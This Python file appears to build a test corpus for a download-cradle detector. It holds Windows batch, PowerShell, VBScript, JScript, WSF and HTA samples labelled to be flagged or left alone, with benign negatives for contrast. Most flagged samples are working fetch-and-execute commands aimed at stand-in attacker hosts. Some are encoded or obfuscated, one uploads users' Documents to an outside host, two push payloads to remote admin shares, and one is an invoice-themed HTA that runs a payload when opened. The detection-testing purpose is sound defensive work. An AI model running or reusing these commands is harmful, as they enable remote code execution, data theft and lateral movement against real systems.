"""Windows carriers: batch, powershell, wsh-vbs, wsh-js, wsf, hta (shipped at Unix paths in an image)."""
from common import C, b64, ps_enc

ART = "Atomic Red Team T1105"
LOL = "LOLBAS"
SIGMA = "Sigma"
PV = "parser variant (author)"
W = "/opt/win/h4"

# ---------------------------------------------------------------- batch detect
C("h4-bat-installutil-remote-01", LOL + " InstallUtil.exe (Download)", "batch",
  W + "/scripts/reg-svc.cmd", "detect", r'''
@echo off
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe https://cdn.attacker.example/payload/svc.dll
''')

C("h4-bat-msoxmled-verb-open-02", LOL + " msoxmled.exe (Download)", "batch",
  W + "/scripts/open-xml.bat", "detect", r'''
@echo off
"C:\Program Files\Common Files\microsoft shared\OFFICE16\MSOXMLED.EXE" /verb open http://203.0.113.45/docs/report.xml
''')

C("h4-bat-ngen-url-03", LOL + " Ngen.exe (Download)", "batch",
  W + "/scripts/precompile.cmd", "detect", r'''
@echo off
%windir%\Microsoft.NET\Framework\v4.0.30319\ngen.exe http://files.attacker.example/lib/helper.dll
''')

C("h4-bat-msedge-proxy-zip-04", LOL + " msedge_proxy.exe (Download)", "batch",
  W + "/scripts/edge-open.cmd", "detect", r'''
@echo off
"C:\Program Files (x86)\Microsoft\Edge\Application\msedge_proxy.exe" https://share.attacker.example/pkg/tools.zip
''')

C("h4-bat-mspub-winproj-05", LOL + " Mspub.exe / WinProj.exe (Download)", "batch",
  W + "/scripts/office-open.cmd", "detect", r'''
@echo off
set OFF=C:\Program Files\Microsoft Office\root\Office16
"%OFF%\MSPUB.EXE" https://files.attacker.example/pub/flyer.exe
"%OFF%\WINPROJ.EXE" http://198.51.100.19/proj/plan.dll
''')

C("h4-bat-excel-remote-06", LOL + " Excel.exe (Download)", "batch",
  W + "/scripts/open-sheet.cmd", "detect", r'''
@echo off
start "" "C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" http://198.51.100.102/q3/payload.dll
''')

C("h4-bat-protocolhandler-07", LOL + " ProtocolHandler.exe (Download)", "batch",
  W + "/scripts/ph.bat", "detect", r'''
"C:\Program Files\Microsoft Office\root\Office16\ProtocolHandler.exe" https://files.attacker.example/x/loader.exe
''')

C("h4-bat-xsd-vslaunch-08", LOL + " xsd.exe / VSLaunchBrowser.exe (Download)", "batch",
  W + "/scripts/devtools.cmd", "detect", r'''
@echo off
xsd.exe http://203.0.113.5/schemas/stage.xsd
"C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\VSLaunchBrowser.exe" .exe http://203.0.113.5/stage.exe
''')

C("h4-bat-pikabot-combo-09", SIGMA + " 'Potential Pikabot Infection - Suspicious Command Combinations Via Cmd.EXE'", "batch",
  W + "/scripts/pk.cmd", "detect", r'''
cmd.exe /c mkdir %APPDATA%\Xvd & curl http://203.0.113.90/k/ldr.dat -o %APPDATA%\Xvd\ldr.dat & rundll32 %APPDATA%\Xvd\ldr.dat,vips
''')

C("h4-bat-bitsadmin-appdata-10", SIGMA + " 'Command Line Execution with Suspicious URL and AppData Strings'", "batch",
  W + "/scripts/bits-appdata.bat", "detect", r'''
@echo off
bitsadmin /transfer upd /download /priority FOREGROUND http://198.51.100.55/u/winupd.exe "%AppData%\Microsoft\winupd.exe"
start "" "%AppData%\Microsoft\winupd.exe"
''')

C("h4-bat-certutil-for-loop-11", "Sigma certutil download / " + PV + " (for /f over a URL list)", "batch",
  W + "/scripts/pull-list.cmd", "detect", r'''
@echo off
setlocal
for /f "usebackq tokens=1,2" %%A in ("%~dp0files.txt") do (
  certutil.exe -urlcache -f http://203.0.113.30/drop/%%A "%ProgramData%\%%B"
)
''')

C("h4-bat-curl-susp-ext-12", SIGMA + " 'Suspicious Curl.EXE Download' (suspicious folder, image/tmp extension)", "batch",
  W + "/scripts/curl-img.bat", "detect", r'''
@echo off
"C:\Windows\System32\curl.exe" --insecure --location https://img.attacker.example/banner --output C:\Users\Public\Libraries\banner.png
"C:\Windows\System32\curl.exe" -s http://203.0.113.85/k -o C:\PerfLogs\k.tmp
rundll32 C:\PerfLogs\k.tmp,DllRegisterServer
''')

C("h4-bat-ostap-push-unc-13", ART + " 'OSTAP Worming Activity' / push to a remote share", "batch",
  W + "/scripts/spread.bat", "detect", r'''
@echo off
for %%H in (198.51.100.31 198.51.100.32) do (
  xcopy /y /q "%~dp0loader.js" "\\%%H\C$\Users\Public\"
)
''')

C("h4-bat-windows-tftp-14", "Windows TFTP client (Download)", "batch",
  W + "/scripts/tftp-get.cmd", "detect", r'''
@echo off
tftp -i 198.51.100.12 GET agent.exe C:\ProgramData\agent.exe
C:\ProgramData\agent.exe
''')

C("h4-bat-msiexec-unc-15", SIGMA + " 'MsiExec Web Install' (UNC source)", "batch",
  W + "/scripts/install-remote.bat", "detect", r'''
@echo off
msiexec /i \\files.corp.example\pkg\helper.msi /qn /norestart
''')

C("h4-bat-greenbug-webclient-16", SIGMA + " 'Greenbug Espionage Group Indicators' (net.webclient cradle)", "batch",
  W + "/scripts/gb.bat", "detect", r'''
powershell.exe -nop -w hidden -c $m=new-object net.webclient;$m.proxy.credentials=[Net.CredentialCache]::DefaultCredentials;IEX $m.downloadstring('http://203.0.113.111/a')
''')

C("h4-bat-split-var-certutil-17", PV + " (tool name split across variables)", "batch",
  W + "/scripts/cv.cmd", "detect", r'''
@echo off
set c=cer&set u=tutil
%c%%u% -urlcache -split -f http://198.51.100.200/p.txt %TEMP%\p.exe
''')

C("h4-bat-openssh-scp-18", ART + " scp pull with the Windows OpenSSH client", "batch",
  W + "/scripts/scp-pull.cmd", "detect", r'''
@echo off
C:\Windows\System32\OpenSSH\scp.exe -o StrictHostKeyChecking=no ops@203.0.113.16:/srv/tools/agent.exe C:\ProgramData\agent.exe
''')

C("h4-bat-pcalua-curl-19", PV + " (pcalua -a wrapper around curl.exe)", "batch",
  W + "/scripts/compat.bat", "detect", r'''
@echo off
pcalua.exe -a C:\Windows\System32\curl.exe -c "-s -o C:\Users\Public\svc.exe http://198.51.100.73/svc.exe"
''')

C("h4-bat-ps-enc-ec-20", PV + " (powershell -ec short flag)", "batch",
  W + "/scripts/run-enc.cmd", "detect", r'''
@echo off
start /b "" powershell -NoP -NonI -ec ''' + ps_enc("Invoke-WebRequest -Uri http://203.0.113.44/b.ps1 -OutFile $env:TEMP\\b.ps1; & $env:TEMP\\b.ps1") + r'''
''')

C("h4-bat-silent-certutil-encode-01", "certutil on local files only", "batch",
  W + "/scripts/encode-cert.cmd", "silent", r'''
@echo off
certutil -encode C:\build\signing.cer C:\build\signing.b64
certutil -dump C:\build\signing.cer > C:\build\signing.txt
''')

C("h4-bat-silent-process-watch-02", "tool names in a process filter", "batch",
  W + "/scripts/watch-tools.bat", "silent", r'''
@echo off
rem report any download tools that are running
tasklist /fo csv | findstr /i "curl.exe bitsadmin.exe certutil.exe" > C:\logs\tools.csv
if errorlevel 1 echo none running
''')

C("h4-bat-silent-local-move-03", "local file moves", "batch",
  W + "/scripts/stage-release.cmd", "silent", r'''
@echo off
if not exist D:\release mkdir D:\release
move /y C:\build\out\app.exe D:\release\app.exe
copy /y C:\build\out\*.dll D:\release\
''')

C("h4-bat-silent-rem-docs-04", "REM documentation with URLs", "batch",
  W + "/scripts/README.cmd", "silent", r'''
@echo off
REM To update manually:
REM   bitsadmin /transfer job https://updates.example.com/app.msi C:\temp\app.msi
REM   curl.exe -o C:\temp\app.msi https://updates.example.com/app.msi
:: see https://docs.example.com/app/update
winget --version
''')

# ---------------------------------------------------------------- powershell detect
C("h4-ps-iwr-upper-dll-01", SIGMA + " 'Potential DLL File Download Via PowerShell Invoke-WebRequest'", "powershell",
  W + "/ps/get-lib.ps1", "detect", r'''
IWR http://198.51.100.9/lib/msvcp.dll -OutFile "$env:LOCALAPPDATA\Temp\msvcp.dll"
''')

C("h4-ps-art-downloadstring-outfile-02", ART + " 'File Download via PowerShell'", "powershell",
  W + "/ps/fetch-license.ps1", "detect", r'''
(New-Object Net.WebClient).DownloadString('https://raw.attacker.example/LICENSE.txt') | Out-File LICENSE.txt; Invoke-Item LICENSE.txt
''')

C("h4-ps-art-maze-propagation-03", ART + " 'MAZE Propagation Script' (push to admin shares)", "powershell",
  W + "/ps/propagate.ps1", "detect", r'''
$machine_list = "C:\ProgramData\hosts.txt"
foreach ($machine in Get-Content -Path $machine_list) {
  if (Test-Connection -Count 1 -ComputerName $machine -Quiet) {
    cmd /c copy "C:\ProgramData\svc.dll" "\\$machine\C$\Windows\Temp\svc.dll"
    wmic /node:"$machine" process call create "regsvr32.exe /i C:\Windows\Temp\svc.dll"
  }
}
''')

C("h4-ps-new-psdrive-unc-04", PV + " (New-PSDrive on a remote share, then copy)", "powershell",
  W + "/ps/map-tools.ps1", "detect", r'''
New-PSDrive -Name T -PSProvider FileSystem -Root \\203.0.113.66\tools | Out-Null
Copy-Item T:\agent.exe -Destination C:\ProgramData\agent.exe
Start-Process C:\ProgramData\agent.exe
''')

C("h4-ps-ftpwebrequest-05", PV + " (System.Net.FtpWebRequest download)", "powershell",
  W + "/ps/ftp-pull.ps1", "detect", r'''
$req = [System.Net.FtpWebRequest]::Create("ftp://ftp.attacker.example/pub/stage.bin")
$req.Method = [System.Net.WebRequestMethods+Ftp]::DownloadFile
$req.Credentials = New-Object System.Net.NetworkCredential("anonymous", "x@example.com")
$resp = $req.GetResponse()
$fs = [IO.File]::Create("$env:TEMP\stage.bin")
$resp.GetResponseStream().CopyTo($fs)
$fs.Close()
''')

C("h4-ps-start-job-iwr-06", PV + " (download inside a Start-Job script block with -ArgumentList)", "powershell",
  W + "/ps/bg-fetch.ps1", "detect", r'''
$job = Start-Job -ScriptBlock {
    param($src, $dst)
    Invoke-WebRequest -Uri $src -OutFile $dst -UseBasicParsing
} -ArgumentList 'http://198.51.100.121/upd.exe', "$env:APPDATA\upd.exe"
Wait-Job $job | Receive-Job
''')

C("h4-ps-com-clsid-xmlhttp6-07", SIGMA + " 'Potential COM Objects Download Cradles Usage' (CLSID)", "powershell",
  W + "/ps/clsid-cradle.ps1", "detect", r'''
$o = [Activator]::CreateInstance([Type]::GetTypeFromCLSID("88d96a0a-f192-11d4-a65f-0040963251e5"))
$o.open('GET', 'http://203.0.113.23/s.ps1', $false)
$o.send()
iex $o.responseText
''')

C("h4-ps-param-abbrev-outf-08", PV + " (abbreviated -OutF parameter)", "powershell",
  W + "/ps/short-params.ps1", "detect", r'''
iwr -Uri https://dl.attacker.example/t.exe -OutF C:\Users\Public\t.exe -UseB
''')

C("h4-ps-invoke-obfuscation-iex-09", PV + " (iex built from $env:ComSpec characters)", "powershell",
  W + "/ps/comspec-iex.ps1", "detect", r'''
. ($env:ComSpec[4,15,25] -join '') ((New-Object Net.WebClient).DownloadString('http://198.51.100.97/i.ps1'))
''')

C("h4-ps-start-process-bitsadmin-10", PV + " (Start-Process with an argument string)", "powershell",
  W + "/ps/bits-launch.ps1", "detect", r'''
Start-Process -FilePath bitsadmin.exe -ArgumentList '/transfer j1 /download http://203.0.113.118/w.exe C:\Windows\Tasks\w.exe' -WindowStyle Hidden -Wait
''')

C("h4-ps-irm-post-infile-11", "Sigma curl/PS upload / " + PV + " (Invoke-RestMethod -InFile)", "powershell",
  W + "/ps/send-archive.ps1", "detect", r'''
Compress-Archive -Path C:\Users\*\Documents -DestinationPath $env:TEMP\d.zip -Force
Invoke-RestMethod -Uri https://intake.attacker.example/up -Method Post -InFile $env:TEMP\d.zip -ContentType application/zip
''')

C("h4-ps-quoted-method-name-12", PV + " (method name in quotes)", "powershell",
  W + "/ps/quoted-method.ps1", "detect", r'''
$w = New-Object Net.WebClient
$w."DownloadFile"("http://203.0.113.200/s.exe", "$env:PUBLIC\s.exe")
''')

C("h4-ps-char-join-url-13", PV + " (URL joined from a char array)", "powershell",
  W + "/ps/char-url.ps1", "detect", r'''
$u = -join [char[]](104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,53,47,120)
Invoke-WebRequest $u -OutFile "$env:TEMP\x.exe"
''')

C("h4-ps-excel-com-open-14", SIGMA + " COM cradle (Excel.Application opening a remote workbook)", "powershell",
  W + "/ps/xl-com.ps1", "detect", r'''
$xl = New-Object -ComObject Excel.Application
$xl.Visible = $false
$wb = $xl.Workbooks.Open("http://files.attacker.example/q/macro.xlsm")
''')

C("h4-ps-nimgrab-15", ART + " 'Nimgrab - Transfer Files' / Sigma 'PUA - Nimgrab Execution'", "powershell",
  W + "/ps/nimgrab.ps1", "detect", r'''
cmd /c "C:\Tools\nimgrab.exe" https://raw.attacker.example/LICENSE.txt C:\Users\Public\license.txt
''')

C("h4-ps-psm1-update-function-16", PV + " (module function, download below helpers)", "powershell",
  W + "/ps/Agent.Update.psm1", "detect", r'''
Set-StrictMode -Version Latest

function Get-AgentVersion {
    [CmdletBinding()] param()
    (Get-Item 'C:\Program Files\Agent\agent.exe').VersionInfo.FileVersion
}

function Test-AgentRunning {
    [CmdletBinding()] param()
    [bool](Get-Process -Name agent -ErrorAction SilentlyContinue)
}

function Update-Agent {
    [CmdletBinding()]
    param([string]$Channel = 'stable')
    $src = "https://agent.attacker.example/$Channel/agent.exe"
    $dst = Join-Path $env:ProgramData 'Agent\agent.new'
    Invoke-WebRequest -Uri $src -OutFile $dst -UseBasicParsing
    Move-Item $dst 'C:\Program Files\Agent\agent.exe' -Force
}

Export-ModuleMember -Function Get-AgentVersion, Test-AgentRunning, Update-Agent
''')

C("h4-ps-cim-create-certutil-17", PV + " (Invoke-CimMethod Win32_Process Create)", "powershell",
  W + "/ps/cim-run.ps1", "detect", r'''
Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'certutil.exe -urlcache -f http://198.51.100.150/c.exe C:\Windows\Temp\c.exe' }
''')

C("h4-ps-encoded-child-pwsh-18", PV + " (pwsh -e with a base64 child command)", "powershell",
  W + "/ps/launch-child.ps1", "detect", r'''
$p = Start-Process pwsh -ArgumentList '-NoLogo','-e',''' + "'" + ps_enc("(iwr http://203.0.113.140/c.ps1 -UseBasicParsing).Content | iex") + "'" + r''' -PassThru -WindowStyle Hidden
$p.WaitForExit()
''')

# ---------------------------------------------------------------- powershell silent
C("h4-ps-silent-install-module-01", "package manager (PSGallery) only", "powershell",
  W + "/ps/setup-modules.ps1", "silent", r'''
Set-PSRepository -Name PSGallery -InstallationPolicy Trusted
Install-Module -Name Pester -Scope CurrentUser -MinimumVersion 5.5.0
Install-Module -Name PSScriptAnalyzer -Scope CurrentUser
''')

C("h4-ps-silent-test-netconnection-02", "loopback connectivity test", "powershell",
  W + "/ps/check-local.ps1", "silent", r'''
if (-not (Test-NetConnection -ComputerName localhost -Port 443 -InformationLevel Quiet)) {
    Write-Warning 'local TLS listener is down'
}
$r = Invoke-RestMethod -Uri 'http://127.0.0.1:5985/wsman' -Method Get -ErrorAction SilentlyContinue
''')

C("h4-ps-silent-verbose-url-03", "URL only logged, no transfer", "powershell",
  W + "/ps/show-config.ps1", "silent", r'''
param([string]$DownloadUrl = 'https://updates.example.com/app/latest')
Write-Verbose "Update channel: $DownloadUrl" -Verbose
Write-Output "Run 'Invoke-WebRequest $DownloadUrl -OutFile app.msi' on a machine with internet access."
''')

C("h4-ps-silent-hash-local-04", "local hashing / copy", "powershell",
  W + "/ps/verify-release.ps1", "silent", r'''
$files = Get-ChildItem D:\release -Filter *.exe
foreach ($f in $files) {
    $h = Get-FileHash $f.FullName -Algorithm SHA256
    "$($h.Hash)  $($f.Name)" | Add-Content D:\release\SHA256SUMS
}
Copy-Item D:\release\SHA256SUMS C:\inetpub\wwwroot\SHA256SUMS
''')

# ---------------------------------------------------------------- wsh-vbs
C("h4-vbs-domdocument-bin64-01", PV + " (Msxml2.DOMDocument load of a bin.base64 XML)", "wsh-vbs",
  W + "/wsh/xmlload.vbs", "detect", r'''
Set xml = CreateObject("Msxml2.DOMDocument.6.0")
xml.async = False
xml.setProperty "ServerHTTPRequest", True
xml.load "http://203.0.113.84/p.xml"
Set node = xml.selectSingleNode("//b")
node.dataType = "bin.base64"
Set st = CreateObject("ADODB.Stream")
st.Type = 1: st.Open: st.Write node.nodeTypedValue
st.SaveToFile "C:\Users\Public\p.exe", 2
''')

C("h4-vbs-ie-navigate-02", PV + " (InternetExplorer.Application navigate + innerText)", "wsh-vbs",
  W + "/wsh/ie-fetch.vbs", "detect", r'''
Set ie = CreateObject("InternetExplorer.Application")
ie.Visible = False
ie.Navigate "http://198.51.100.36/cmd.txt"
Do While ie.Busy: WScript.Sleep 200: Loop
Execute ie.Document.Body.innerText
ie.Quit
''')

C("h4-vbs-fso-copy-unc-03", PV + " (FileSystemObject copy from a remote share)", "wsh-vbs",
  W + "/wsh/copy-share.vbs", "detect", r'''
Set fso = CreateObject("Scripting.FileSystemObject")
fso.CopyFile "\\files.attacker.example\pub\svc.exe", "C:\ProgramData\svc.exe", True
CreateObject("WScript.Shell").Run "C:\ProgramData\svc.exe", 0, False
''')

C("h4-vbs-wmi-process-create-04", PV + " (WMI Win32_Process.Create launching powershell)", "wsh-vbs",
  W + "/wsh/wmi-launch.vbs", "detect", r'''
Set proc = GetObject("winmgmts:\\.\root\cimv2").Get("Win32_Process")
proc.Create "powershell -w hidden -c ""iwr http://203.0.113.59/s.exe -OutFile $env:TEMP\s.exe; & $env:TEMP\s.exe""", Null, Null, pid
''')

C("h4-vbs-silent-proxy-read-01", "registry read + echo", "wsh-vbs",
  W + "/wsh/show-proxy.vbs", "silent", r'''
Set sh = CreateObject("WScript.Shell")
p = sh.RegRead("HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyServer")
WScript.Echo "Proxy in use: " & p
''')

C("h4-vbs-silent-log-event-02", "event log write, help URL in text", "wsh-vbs",
  W + "/wsh/log-start.vbs", "silent", r'''
' Writes a start marker. Docs: https://docs.example.com/agent/logging
Set sh = CreateObject("WScript.Shell")
sh.LogEvent 4, "Agent started. Updates are fetched by the service, not this script."
''')

# ---------------------------------------------------------------- wsh-js
C("h4-wshjs-xmldom-load-01", PV + " (Microsoft.XMLDOM load + bin.base64)", "wsh-js",
  W + "/wsh/xmldom.js", "detect", r'''
var d = new ActiveXObject("Microsoft.XMLDOM");
d.async = false;
d.load("http://198.51.100.84/cfg.xml");
var n = d.selectSingleNode("//data");
n.dataType = "bin.base64";
var s = new ActiveXObject("ADODB.Stream");
s.Type = 1; s.Open(); s.Write(n.nodeTypedValue);
s.SaveToFile("C:\\ProgramData\\cfg.dll", 2);
''')

C("h4-wshjs-exec-curl-02", PV + " (WScript.Shell.Exec of curl.exe)", "wsh-js",
  W + "/wsh/exec-curl.js", "detect", r'''
var sh = WScript.CreateObject("WScript.Shell");
var e = sh.Exec("curl.exe -s -o %TEMP%\\u.exe https://dl.attacker.example/u.exe");
while (e.Status == 0) { WScript.Sleep(100); }
sh.Run("%TEMP%\\u.exe", 0, false);
''')

C("h4-wshjs-wmi-mshta-03", PV + " (WMI Win32_Process.Create launching mshta URL)", "wsh-js",
  W + "/wsh/wmi-mshta.js", "detect", r'''
var svc = GetObject("winmgmts:root\\cimv2");
var p = svc.Get("Win32_Process");
var inp = p.Methods_("Create").InParameters.SpawnInstance_();
inp.CommandLine = "mshta.exe http://203.0.113.131/app.hta";
svc.ExecMethod("Win32_Process", "Create", inp);
''')

C("h4-wshjs-silent-list-downloads-01", "lists a local folder", "wsh-js",
  W + "/wsh/list-dl.js", "silent", r'''
var fso = new ActiveXObject("Scripting.FileSystemObject");
var shell = new ActiveXObject("WScript.Shell");
var dir = fso.GetFolder(shell.ExpandEnvironmentStrings("%USERPROFILE%\\Downloads"));
for (var e = new Enumerator(dir.Files); !e.atEnd(); e.moveNext()) {
  WScript.Echo(e.item().Name + "\t" + e.item().Size);
}
''')

# ---------------------------------------------------------------- wsf
C("h4-wsf-object-winhttp-01", PV + " (<object progid=WinHttp> element in a job)", "wsf",
  W + "/wsh/fetch.wsf", "detect", r'''
<package>
  <job id="fetch">
    <object id="req" progid="WinHttp.WinHttpRequest.5.1"/>
    <object id="stm" progid="ADODB.Stream"/>
    <script language="JScript">
      req.Open("GET", "http://198.51.100.174/t.bin", false);
      req.Send();
      stm.Type = 1; stm.Open(); stm.Write(req.ResponseBody);
      stm.SaveToFile("C:\\Users\\Public\\t.exe", 2);
    </script>
  </job>
</package>
''')

C("h4-wsf-vbs-bitsadmin-02", "LOLBAS Bitsadmin from a WSF VBScript job", "wsf",
  W + "/wsh/bits.wsf", "detect", r'''
<job id="bits">
<script language="VBScript">
Set sh = CreateObject("WScript.Shell")
sh.Run "bitsadmin /create j & bitsadmin /addfile j http://203.0.113.38/a.exe C:\Users\Public\a.exe & bitsadmin /resume j & bitsadmin /complete j", 0, True
</script>
</job>
''')

C("h4-wsf-silent-about-01", "WSF printing a help message", "wsf",
  W + "/wsh/about.wsf", "silent", r'''
<job id="about">
<runtime>
  <description>Shows version info. See https://docs.example.com/tools for downloads.</description>
</runtime>
<script language="JScript">
WScript.Echo("tools 3.2 - use the software center to update");
</script>
</job>
''')

# ---------------------------------------------------------------- hta
C("h4-hta-vbs-curl-start-01", SIGMA + " 'Curl Download And Execute Combination' inside an HTA", "hta",
  W + "/hta/invoice.hta", "detect", r'''
<!DOCTYPE html>
<html>
<head>
<title>Invoice 2026-0419</title>
<hta:application applicationname="Invoice Viewer" border="thin" caption="no" windowstate="minimize"/>
<script language="VBScript">
Sub Go()
  Dim cmd
  cmd = "cmd /c curl -s http://198.51.100.161/i.exe -o %TEMP%\i.exe && start %TEMP%\i.exe"
  CreateObject("WScript.Shell").Run cmd, 0, False
  window.close()
End Sub
</script>
</head>
<body onload="Go()"><p>Loading invoice...</p></body>
</html>
''')

C("h4-hta-jscript-ps-encoded-02", PV + " (HTA JScript running powershell -enc)", "hta",
  W + "/hta/update.hta", "detect", r'''
<html><head>
<hta:application showintaskbar="no" border="none"/>
<script language="JScript">
var s = new ActiveXObject("WScript.Shell");
s.Run("powershell -nop -w hidden -enc ''' + ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.177/u.ps1')") + r'''", 0);
self.close();
</script>
</head><body></body></html>
''')

C("h4-hta-silent-settings-01", "HTA settings dialog", "hta",
  W + "/hta/settings.hta", "silent", r'''
<html><head><title>Settings</title>
<HTA:APPLICATION ID="settings" APPLICATIONNAME="Settings"/>
<script language="VBScript">
Sub SaveIt
  Set sh = CreateObject("WScript.Shell")
  sh.RegWrite "HKCU\Software\Example\Theme", theme.value
  MsgBox "Saved"
End Sub
</script>
</head><body>
<select id="theme"><option>light</option><option>dark</option></select>
<button onclick="SaveIt">Save</button>
<p><a href="https://docs.example.com/settings">Help</a></p>
</body></html>
''')
